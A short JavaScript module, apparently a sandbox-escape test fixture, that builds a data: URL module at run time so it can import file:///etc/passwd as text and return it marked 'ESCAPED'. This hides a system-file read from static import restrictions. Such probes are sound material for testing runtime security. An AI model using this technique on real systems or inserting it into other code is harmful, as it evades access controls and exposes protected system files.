// Hides the text import in a second module, which it builds and imports at run time.
export default async () => {
  const code = `export { default } from 'file:///etc/passwd' with { type: 'text' };`;
  return `ESCAPED ${(await import(`data:text/javascript,${encodeURIComponent(code)}`)).default}`;
};
